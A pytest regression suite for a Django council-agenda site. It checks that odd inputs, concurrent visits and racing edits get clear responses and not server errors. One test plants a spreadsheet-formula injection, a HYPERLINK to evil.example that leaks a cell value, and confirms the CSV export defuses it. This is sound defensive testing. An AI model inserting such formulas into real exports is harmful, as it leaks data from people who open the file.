"""Input that once answered 500: each gets a clear answer and changes nothing."""

import csv
import io
import re
import threading
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client

from agendas.models import Meeting, ReadingMark
from kkr.models import Council, Person
from tests.devsite import csrf_token, logged_in, runserver, site_env, stop
from tests.factories import make_member

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def demo():
    call_command("load_demo", stdout=None)
    return Council.objects.get(slug="kkr-nordjylland")


@pytest.mark.django_db
@pytest.mark.parametrize("side", ["99999999999999999999", "9223372036854775808", "-99999999999999999999"])
def test_a_search_page_far_past_the_end_is_the_last_page(demo, client, side):
    response = client.get("/soeg/", {"q": "klima", "side": side})
    assert response.status_code == 200
    assert "Klima" in response.content.decode() or "klima" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("year", ["²⁰²¹", "0000", "٢٠٢١", "99999"])
def test_the_api_refuses_a_year_that_is_not_one(demo, client, year):
    response = client.get("/api/v1/moeder/", {"year": year})
    assert response.status_code == 400
    assert response.json()["error"] == "Året skal skrives med fire cifre, fx 2021."


@pytest.mark.django_db
def test_the_register_csv_never_hands_a_spreadsheet_a_formula(demo, client):
    person = Person.objects.filter(appointments__isnull=False).first()
    person.name = '=HYPERLINK("http://evil.example/?x="&A1;"Klik")'
    person.save()
    Person.objects.exclude(pk=person.pk).filter(appointments__isnull=False).update(party="+A")
    response = client.get("/kkr-nordjylland/udpegninger/udpegninger.csv", {"dato": "2021-02-05"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + person.name in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db(transaction=True)
def test_a_members_simultaneous_first_visits_all_succeed():
    if connection.vendor != "postgresql":
        pytest.skip("needs concurrent connections to one database (PostgreSQL)")
    call_command("load_demo", stdout=None)
    council = Council.objects.get(slug="kkr-nordjylland")
    meetings = list(Meeting.objects.published().filter(council=council))
    member = make_member(council)
    statuses = []
    for meeting in meetings:
        barrier = threading.Barrier(6)

        def visit(url, barrier):
            client = Client(raise_request_exception=False)
            client.force_login(member)
            barrier.wait()
            statuses.append(client.get(url).status_code)
            connection.close()

        threads = [
            threading.Thread(target=visit, args=(meeting.get_absolute_url(), barrier)) for _ in range(6)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert statuses == [200] * 6 * len(meetings)
    assert ReadingMark.objects.filter(user=member).count() == len(meetings)


def test_simultaneous_saves_of_one_item_on_sqlite_answer_a_conflict_not_500(tmp_path):
    """The embedded default (`make run`): SQLite behind the threaded dev server."""
    log = tmp_path / "server.log"
    server, base = runserver(site_env(tmp_path), log, "--noreload")
    try:
        statuses = _save_twice_at_once(base, rounds=25)
    finally:
        stop(server)
    assert 500 not in statuses, log.read_text()
    assert statuses.count(409) >= 1  # the loser of each race is told of the other's save
    assert set(statuses) <= {200, 409}


def _save_twice_at_once(base, rounds):
    browser = logged_in(base, "sekretariat", "demo-sekretariat")
    edit = base + "/kkr-nordjylland/2021-04-23/rediger/"
    statuses = []
    for round_ in range(rounds):
        page = browser.open(edit).read().decode()
        item_id, revision = re.search(r'name="item-(\d+)-revision" value="(\d+)"', page).groups()
        token = csrf_token(page)
        fields = dict(re.findall(rf'name="(item-{item_id}-[a-z_]+)" value="([^"]*)"', page))
        barrier = threading.Barrier(2)

        def save(n, round_, barrier, fields=fields, item_id=item_id, revision=revision, token=token):
            data = {
                **fields,
                f"item-{item_id}-title": f"Runde {round_} gemt af {n}",
                f"item-{item_id}-revision": revision,
                "csrfmiddlewaretoken": token,
            }
            request = urllib.request.Request(
                f"{edit}punkt/{item_id}/",
                urllib.parse.urlencode(data).encode(),
                headers={"Referer": edit, "HX-Request": "true"},
            )
            barrier.wait()
            try:
                statuses.append(browser.open(request).status)
            except urllib.error.HTTPError as error:
                statuses.append(error.code)

        threads = [threading.Thread(target=save, args=(n, round_, barrier)) for n in (1, 2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return statuses
